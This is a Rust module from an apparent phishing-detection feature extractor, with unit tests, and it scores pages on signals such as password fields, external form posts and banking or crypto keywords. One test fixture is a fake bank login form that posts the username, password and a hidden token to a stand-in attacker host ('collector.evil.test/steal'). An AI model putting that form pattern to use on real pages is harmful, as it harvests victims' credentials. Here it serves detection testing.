use super::{set, set_count};
use crate::document::{attr_or_default, sole_text, Document};
use crate::fetcher::FetchResult;
use crate::similarity;
use crate::types::{flag, FeatureMap};

const SOCIAL_NETWORKS: &[&str] = &[
    "facebook.com",
    "twitter.com",
    "instagram.com",
    "linkedin.com",
    "youtube.com",
];

const CRYPTO_KEYWORDS: &[&str] = &["crypto", "bitcoin", "ethereum", "wallet", "binance"];

const EMPTY_HREFS: &[&str] = &["#", "javascript:void(0)", ""];

#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct LinkCounts {
    pub self_ref: usize,
    pub empty_ref: usize,
    pub external_ref: usize,
}

impl LinkCounts {
    pub fn total(&self) -> usize {
        self.self_ref + self.empty_ref + self.external_ref
    }
}

/// Page features from the parsed document, the raw page text and the redirect
/// history. `netloc` is the raw authority of the requested URL.
pub fn analyze(doc: &Document, page: &FetchResult, url: &str, netloc: &str) -> FeatureMap {
    let mut features = FeatureMap::new();

    set_count(&mut features, "num_iframes", doc.count("iframe"));
    set(&mut features, "has_password_field", flag(doc.has("input", "type", "password")));
    set(&mut features, "has_submit_button", flag(doc.has("input", "type", "submit")));
    set_count(&mut features, "num_js_tags", doc.count("script"));
    set_count(&mut features, "num_css_links", stylesheet_count(doc));

    let title_tag = doc.find("title");
    let title = title_tag
        .as_ref()
        .and_then(sole_text)
        .map(|t| t.trim().to_string())
        .unwrap_or_default();
    set(&mut features, "HasTitle", flag(title_tag.is_some()));
    set(&mut features, "domain_title_match_score", similarity::ratio(netloc, &title));
    set(&mut features, "URLTitleMatchScore", similarity::ratio(url, &title));

    set(
        &mut features,
        "HasFavicon",
        flag(doc.find_with_attr_any("link", "rel", &["icon", "shortcut icon"]).is_some()),
    );
    set(&mut features, "IsResponsive", flag(doc.has("meta", "name", "viewport")));
    set(&mut features, "HasDescription", flag(doc.has("meta", "name", "description")));
    set(&mut features, "HasHiddenFields", flag(doc.has("input", "type", "hidden")));
    set_count(&mut features, "NoOfImage", doc.count("img"));

    set(&mut features, "HasExternalFormSubmit", flag(has_external_form_submit(doc, netloc)));

    let hrefs = doc.attr_values("a", "href");
    let has_social = hrefs
        .iter()
        .any(|href| SOCIAL_NETWORKS.iter().any(|site| href.contains(site)));
    set(&mut features, "HasSocialNet", flag(has_social));

    let text = doc.visible_text().to_lowercase();
    let url_lower = url.to_lowercase();
    let mentions = |keyword: &str| url_lower.contains(keyword) || text.contains(keyword);
    set(&mut features, "Bank", flag(mentions("bank")));
    set(&mut features, "Pay", flag(mentions("pay")));
    set(&mut features, "Crypto", flag(CRYPTO_KEYWORDS.iter().any(|kw| mentions(*kw))));
    set(
        &mut features,
        "HasCopyrightInfo",
        flag(text.contains("copyright") || text.contains('©')),
    );

    let links = classify_links(&hrefs, netloc);
    set_count(&mut features, "NoOfSelfRef", links.self_ref);
    set_count(&mut features, "NoOfEmptyRef", links.empty_ref);
    set_count(&mut features, "NoOfExternalRef", links.external_ref);

    let lines = split_lines(&page.text);
    set_count(&mut features, "LineOfCode", lines.len());
    set_count(
        &mut features,
        "LargestLineLength",
        lines.iter().map(|line| line.chars().count()).max().unwrap_or(0),
    );

    set_count(&mut features, "NoOfURLRedirect", page.redirect_chain.len());
    set_count(
        &mut features,
        "NoOfSelfRedirect",
        page.redirect_chain
            .iter()
            .filter(|hop| hop.contains(netloc))
            .count(),
    );

    features
}

fn stylesheet_count(doc: &Document) -> usize {
    doc.find_all("link")
        .iter()
        .filter(|el| {
            el.value()
                .attr("rel")
                .map(|rel| rel == "stylesheet" || rel.split_whitespace().any(|t| t == "stylesheet"))
                .unwrap_or(false)
        })
        .count()
}

/// A form posting somewhere that is neither a relative path nor this host.
fn has_external_form_submit(doc: &Document, netloc: &str) -> bool {
    doc.find_all("form").iter().any(|form| {
        let action = attr_or_default(form, "action");
        !action.is_empty() && !action.starts_with('/') && !action.contains(netloc)
    })
}

/// Puts every href into exactly one bucket: placeholder, same-site, or
/// external.
pub fn classify_links(hrefs: &[&str], netloc: &str) -> LinkCounts {
    let mut counts = LinkCounts::default();
    for href in hrefs {
        if EMPTY_HREFS.contains(href) {
            counts.empty_ref += 1;
        } else if href.starts_with('/') || href.contains(netloc) {
            counts.self_ref += 1;
        } else {
            counts.external_ref += 1;
        }
    }
    counts
}

/// Splits on every line boundary the training-side extractor recognised:
/// `\n`, `\r`, `\r\n`, `\v`, `\f`, `\x1c`-`\x1e`, NEL, LS and PS. A trailing
/// boundary does not start an extra empty line.
pub fn split_lines(text: &str) -> Vec<&str> {
    let mut lines = Vec::new();
    let mut start = 0;
    let mut chars = text.char_indices().peekable();

    while let Some((i, c)) = chars.next() {
        let is_break = matches!(
            c,
            '\n' | '\r' | '\x0b' | '\x0c' | '\x1c' | '\x1d' | '\x1e' | '\u{85}' | '\u{2028}' | '\u{2029}'
        );
        if !is_break {
            continue;
        }
        lines.push(&text[start..i]);
        let mut end = i + c.len_utf8();
        if c == '\r' {
            if let Some(&(j, '\n')) = chars.peek() {
                chars.next();
                end = j + 1;
            }
        }
        start = end;
    }

    if start < text.len() {
        lines.push(&text[start..]);
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    const LOGIN_PAGE: &str = r##"<!DOCTYPE html>
<html>
<head>
  <title>Secure Bank Login</title>
  <meta name="viewport" content="width=device-width">
  <link rel="stylesheet" href="/a.css">
  <link rel="stylesheet" href="/b.css">
  <link rel="icon" href="/favicon.ico">
  <script src="/app.js"></script>
</head>
<body>
  <iframe src="/frame1"></iframe>
  <iframe src="/frame2"></iframe>
  <form action="https://collector.evil.test/steal" method="post">
    <input type="hidden" name="token" value="x">
    <input type="text" name="user">
    <input type="password" name="pass">
    <input type="submit" value="Sign in">
  </form>
  <img src="/1.png"><img src="/2.png"><img src="/3.png">
  <a href="#">top</a>
  <a href="javascript:void(0)">noop</a>
  <a href="">blank</a>
  <a href="/account">account</a>
  <a href="https://login.example.com/help">help</a>
  <a href="https://www.facebook.com/bank">fb</a>
  <a>no href</a>
  <p>&copy; 2024 Example</p>
</body>
</html>"##;

    fn page(text: &str, redirects: &[&str]) -> FetchResult {
        FetchResult::from_parts(
            "https://login.example.com/",
            redirects.iter().map(|s| s.to_string()).collect(),
            text.as_bytes().to_vec(),
            text.to_string(),
        )
    }

    fn analyze_fixture(html: &str, url: &str, netloc: &str) -> FeatureMap {
        let doc = Document::parse(html);
        analyze(&doc, &page(html, &[]), url, netloc)
    }

    #[test]
    fn test_login_fixture_counts() {
        let f = analyze_fixture(LOGIN_PAGE, "https://login.example.com/", "login.example.com");
        assert_eq!(f["has_password_field"], 1.0);
        assert_eq!(f["has_submit_button"], 1.0);
        assert_eq!(f["num_iframes"], 2.0);
        assert_eq!(f["NoOfImage"], 3.0);
        assert_eq!(f["num_js_tags"], 1.0);
        assert_eq!(f["num_css_links"], 2.0);
        assert_eq!(f["HasTitle"], 1.0);
        assert_eq!(f["HasFavicon"], 1.0);
        assert_eq!(f["IsResponsive"], 1.0);
        assert_eq!(f["HasDescription"], 0.0);
        assert_eq!(f["HasHiddenFields"], 1.0);
        assert_eq!(f["HasExternalFormSubmit"], 1.0);
        assert_eq!(f["HasSocialNet"], 1.0);
        assert_eq!(f["Bank"], 1.0);
        assert_eq!(f["Pay"], 0.0);
        assert_eq!(f["Crypto"], 0.0);
        assert_eq!(f["HasCopyrightInfo"], 1.0);
    }

    #[test]
    fn test_link_partition_covers_every_href() {
        let f = analyze_fixture(LOGIN_PAGE, "https://login.example.com/", "login.example.com");
        assert_eq!(f["NoOfEmptyRef"], 3.0);
        assert_eq!(f["NoOfSelfRef"], 2.0);
        assert_eq!(f["NoOfExternalRef"], 1.0);

        let doc = Document::parse(LOGIN_PAGE);
        let hrefs = doc.attr_values("a", "href");
        assert_eq!(hrefs.len(), 6);
        assert_eq!(classify_links(&hrefs, "login.example.com").total(), hrefs.len());
    }

    #[test]
    fn test_noscript_content_is_markup() {
        let html = r#"<html><body>
<noscript><iframe src="https://track.test/ns"></iframe></noscript>
<noscript><img src="/pixel.gif"/><a href="https://facebook.com/x">fb</a></noscript>
</body></html>"#;
        let f = analyze_fixture(html, "https://shop.test/", "shop.test");
        assert_eq!(f["num_iframes"], 1.0);
        assert_eq!(f["NoOfImage"], 1.0);
        assert_eq!(f["HasSocialNet"], 1.0);
        assert_eq!(f["NoOfExternalRef"], 1.0);
    }

    #[test]
    fn test_copyright_in_declared_latin1_page() {
        let body = b"<html><body><p>\xa9 2024 Bank</p></body></html>".to_vec();
        let text = String::from_utf8_lossy(&body).into_owned();
        let result = FetchResult::from_parts("https://bank.test/", vec![], body, text)
            .with_content_type("text/html; charset=ISO-8859-1");

        let f = analyze(&result.document(), &result, "https://bank.test/", "bank.test");
        assert_eq!(f["HasCopyrightInfo"], 1.0);
        assert_eq!(f["Bank"], 1.0);
    }

    #[test]
    fn test_link_partition_with_empty_netloc() {
        let counts = classify_links(&["#", "https://x.test/", "rel/path", ""], "");
        assert_eq!(counts.empty_ref, 2);
        assert_eq!(counts.self_ref, 2);
        assert_eq!(counts.external_ref, 0);
    }

    #[test]
    fn test_title_scores() {
        let html = "<html><head><title>Example Domain</title></head></html>";
        let f = analyze_fixture(html, "https://example.com", "example.com");
        assert_eq!(f["domain_title_match_score"], 0.64);
        assert_eq!(f["URLTitleMatchScore"], 16.0 / 33.0);
    }

    #[test]
    fn test_missing_title_scores_against_empty_string() {
        let f = analyze_fixture("<p>hi</p>", "https://example.com", "example.com");
        assert_eq!(f["HasTitle"], 0.0);
        assert_eq!(f["domain_title_match_score"], 0.0);
        assert_eq!(f["URLTitleMatchScore"], 0.0);
    }

    #[test]
    fn test_form_actions() {
        let html = r#"<form action="/post"></form><form action="https://example.com/x"></form><form></form>"#;
        let f = analyze_fixture(html, "https://example.com", "example.com");
        assert_eq!(f["HasExternalFormSubmit"], 0.0);
    }

    #[test]
    fn test_keywords_match_url_or_text() {
        let f = analyze_fixture(
            "<p>Connect your WALLET</p><script>paypal()</script>",
            "https://mypay.test/",
            "mypay.test",
        );
        assert_eq!(f["Pay"], 1.0);
        assert_eq!(f["Crypto"], 1.0);
        assert_eq!(f["Bank"], 0.0);
    }

    #[test]
    fn test_favicon_requires_icon_token() {
        let f = analyze_fixture(
            r#"<link rel="apple-touch-icon" href="/i.png">"#,
            "https://example.com",
            "example.com",
        );
        assert_eq!(f["HasFavicon"], 0.0);
    }

    #[test]
    fn test_line_features() {
        let f = analyze_fixture("<p>a</p>\r\n<p>bbbb</p>\n", "https://e.test", "e.test");
        assert_eq!(f["LineOfCode"], 2.0);
        assert_eq!(f["LargestLineLength"], 11.0);

        let empty = analyze_fixture("", "https://e.test", "e.test");
        assert_eq!(empty["LineOfCode"], 0.0);
        assert_eq!(empty["LargestLineLength"], 0.0);
    }

    #[test]
    fn test_split_lines_boundaries() {
        assert_eq!(
            split_lines("a\nb\r\nc\rd\x0be\u{85}f\u{2028}g\n"),
            vec!["a", "b", "c", "d", "e", "f", "g"]
        );
        assert_eq!(split_lines(""), Vec::<&str>::new());
        assert_eq!(split_lines("\n"), vec![""]);
        assert_eq!(split_lines("x\n\n"), vec!["x", ""]);
    }

    #[test]
    fn test_redirect_features() {
        let doc = Document::parse("");
        let result = page(
            "",
            &["http://example.com/", "https://example.com/next", "https://other.test/"],
        );
        let f = analyze(&doc, &result, "http://example.com/", "example.com");
        assert_eq!(f["NoOfURLRedirect"], 3.0);
        assert_eq!(f["NoOfSelfRedirect"], 2.0);
    }
}
